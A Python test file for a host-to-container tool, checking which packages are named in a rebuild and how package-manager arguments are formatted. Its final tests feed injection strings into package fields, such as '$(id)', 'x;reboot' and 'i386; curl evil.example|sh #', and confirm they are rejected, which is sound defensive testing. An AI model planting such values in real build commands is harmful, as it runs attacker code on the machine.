"""Which packages are named."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from assess.subjects.host_facts import HostFacts
from assess.workloads import find_workloads
from containerize.closure.file_set import FileSet
from containerize.closure.package_publishers import from_no_repository
from containerize.rebuild.package_choice import argument, chosen_by_dependencies, chosen_by_use, wanted_version
from containerize.rebuild.recipe import ChosenPackage
from inventory.model.packages import Ownership, Package, Packages
from inventory.observation import Found
from tests.containerize.closure.pretend_host import PretendHost, make_workload
from tests.support.host_fixtures import recording_of, snapshot_of
from tests.support.snapshots import HostBuilder, origin


def known(name: str, *, automatic: bool | None = False, repositories: tuple[str, ...] | None = None) -> Package:
    return Package(
        name, "2:1-3", "amd64", "", "dpkg", False, 1, origin("packages"), automatic=automatic, repositories=repositories
    )


def host(*packages: Package, owners: dict[str, str] | None = None) -> HostFacts:
    builder = HostBuilder("web01")
    owned = tuple(Ownership(path, name, origin("packages")) for path, name in (owners or {}).items())
    builder.overrides["packages"] = Found(Packages(packages[0].manager, packages, owned))
    return HostFacts(builder.build(), ())


def gathered(pretend: PretendHost, *direct: str) -> FileSet:
    file_set = pretend.file_set()
    for name in direct:
        file_set.package_named(name, f"which owns /x, which runs {name}")
    return file_set


def names(pretend: PretendHost, marks: HostFacts, *direct: str) -> list[str]:
    local = from_no_repository(marks)
    return [each.name for each in chosen_by_dependencies(gathered(pretend, *direct), marks, local, "apt")]


def test_what_comes_by_itself_is_not_named() -> None:
    pretend = PretendHost()
    pretend.package("apache2", "/usr/sbin/apache2", depends="apache2-bin, libc6")
    pretend.package("apache2-bin", "/usr/bin/ab", depends="libc6")
    pretend.package("libc6", "/lib/libc.so.6")
    marks = host(known("apache2"), known("apache2-bin"), known("libc6"))

    assert names(pretend, marks, "apache2-bin", "apache2") == ["apache2"]


def test_libraries_that_packages_of_rpm_ask_for_by_name_are_not_named() -> None:
    pretend = PretendHost(manager="rpm")
    pretend.package("httpd", "/usr/sbin/httpd", depends="library")
    pretend.package("web-libs", "/usr/lib64/libweb.so.1", provides="library")
    pretend.package("glibc", "/lib64/libc.so.6", essential=True)
    pretend.packages["httpd"] = replace(pretend.packages["httpd"], version="2:2.4-1.el9")
    marks = host(known("httpd", automatic=None), known("web-libs", automatic=None))
    file_set = gathered(pretend, "web-libs", "httpd")

    (chosen,) = chosen_by_dependencies(file_set, marks, frozenset(), "dnf")
    assert (chosen.name, chosen.version) == ("httpd", "2.4-1.el9")
    assert argument(chosen, "dnf") == "httpd-2.4-1.el9"


def test_a_thousand_packages_are_named_in_few_passes() -> None:
    pretend = PretendHost(manager="rpm")
    libraries = ", ".join(f"libc{number}" for number in range(30))
    pretend.package("glibc", "/lib64/libc.so.6", provides=libraries.replace(",", ""), essential=True)
    each = [f"tool{number:04}" for number in range(1000)]
    for name in each:
        pretend.package(name, f"/usr/bin/{name}", depends=libraries)
    file_set = gathered(pretend, *each)
    marks = host(known("glibc"))
    begun = time.process_time()
    chosen = chosen_by_dependencies(file_set, marks, frozenset(), "dnf")
    assert time.process_time() - begun < 5
    assert [package.name for package in chosen] == each


def test_what_nobody_asked_for_and_nothing_brings_is_named_all_the_same() -> None:
    pretend = PretendHost()
    pretend.package("apache2", "/usr/sbin/apache2")
    pretend.package("php", "/usr/lib/php.so", depends="php-common")
    pretend.package("php-common", "/usr/lib/php-common")
    marks = host(known("apache2"), known("php", automatic=True), known("php-common", automatic=True))

    assert names(pretend, marks, "apache2", "php") == ["apache2", "php"]


def test_a_second_alternative_is_named_because_the_first_would_come() -> None:
    pretend = PretendHost()
    pretend.package("shop", "/usr/bin/shop", depends="default-mta | exim4")
    pretend.package("exim4", "/usr/sbin/exim4")
    marks = host(known("shop"), known("exim4", automatic=True))

    assert names(pretend, marks, "shop") == ["exim4", "shop"]


def test_packages_that_need_each_other_are_named_by_one_of_them() -> None:
    pretend = PretendHost()
    pretend.package("one", "/usr/bin/one", depends="two")
    pretend.package("two", "/usr/bin/two", depends="one")
    marks = host(known("one", automatic=True), known("two", automatic=True))

    assert len(names(pretend, marks, "one")) == 1


def test_the_essential_packages_are_in_every_base() -> None:
    pretend = PretendHost()
    pretend.package("bash", "/bin/bash", essential=True)
    pretend.package("shop", "/usr/bin/shop", depends="bash")

    assert names(pretend, host(known("bash"), known("shop")), "shop", "bash") == ["shop"]


def test_a_package_of_no_repository_is_not_named_but_what_it_needs_is() -> None:
    pretend = PretendHost()
    pretend.package("vendor-app", "/opt/vendor/app", depends="libssl3")
    pretend.package("libssl3", "/usr/lib/libssl.so.3")
    marks = host(known("vendor-app", repositories=()), known("libssl3", automatic=True, repositories=("debian",)))

    assert names(pretend, marks, "vendor-app") == ["libssl3"]


def test_without_dependencies_the_owners_of_what_runs_are_named() -> None:
    builder = HostBuilder("old01")
    process = builder.process(50, "/usr/sbin/httpd")
    package = Package("httpd", "0:2.4.6-99.el7", "x86_64", "", "rpm", False, 1, origin("packages"))
    library = Package("glibc", "2.17-1", "x86_64", "", "rpm", False, 1, origin("packages"))
    owners = {"/usr/sbin/httpd": "httpd", "/usr/lib64/libc.so.6": "glibc"}
    owned = tuple(Ownership(path, name, origin("packages")) for path, name in owners.items())
    builder.overrides["packages"] = Found(Packages("rpm", (package, library), owned))
    workload = replace(make_workload(), processes=(process,), main_pid=50)

    found = chosen_by_use([workload], HostFacts(builder.build(), ()), "yum", frozenset())

    assert [(each.name, each.version, each.reason) for each in found] == [
        ("httpd", "2.4.6-99.el7", "owns /usr/sbin/httpd, which runs")
    ]


def test_each_package_manager_is_asked_in_its_own_words() -> None:
    package = ChosenPackage("libssl3", "3.0.1-1", "", "i386")

    assert argument(package, "apt") == "libssl3:i386=3.0.1-1"
    assert argument(package, "dnf") == "libssl3-3.0.1-1"
    assert argument(package, "zypper") == "libssl3=3.0.1-1"
    assert argument(package, "apk") == "libssl3=3.0.1-1"
    assert wanted_version("1:2-3", "yum") == "2-3"
    assert wanted_version("1:2-3", "apt") == "1:2-3"


def test_a_name_that_no_package_has_is_never_on_a_command_line() -> None:
    for name in ("$(id)", "a b", "-y", "x;reboot", "a\nRUN id", ""):
        assert argument(ChosenPackage(name, "1", ""), "apt") == ""
    for version in ("1;id", "$(id)", "1 2", "-1"):
        assert argument(ChosenPackage("apache2", version, ""), "apt") == ""


def test_on_a_recorded_host_of_alpine_the_base_has_what_runs() -> None:
    snapshot = snapshot_of(recording_of("apk01"))
    workloads = find_workloads(snapshot, {})
    assert workloads

    assert chosen_by_use(workloads, HostFacts(snapshot, workloads), "apk", frozenset()) == ()


def test_on_a_recorded_host_the_server_is_named_and_no_library() -> None:
    snapshot = snapshot_of(recording_of("mariadb-bookworm"))
    workloads = find_workloads(snapshot, {})
    (mariadb,) = (each for each in workloads if each.name == "mariadb")
    found = chosen_by_use([mariadb], HostFacts(snapshot, workloads), "apt", frozenset())

    assert "mariadb-server-core" in {each.name for each in found}
    assert "libc6" not in {each.name for each in found}


@pytest.mark.parametrize("architecture", ["i386; curl evil.example|sh #", "i386\nRUN id", "$(id)", "i386 x", "-"])
def test_no_architecture_of_a_host_is_a_command(architecture: str) -> None:
    """It comes from the host's database of packages, and stands on a line that is run with a network."""
    package = ChosenPackage("libssl3", "3.0.1-1", "x", architecture)
    assert argument(package, "apt") == ""
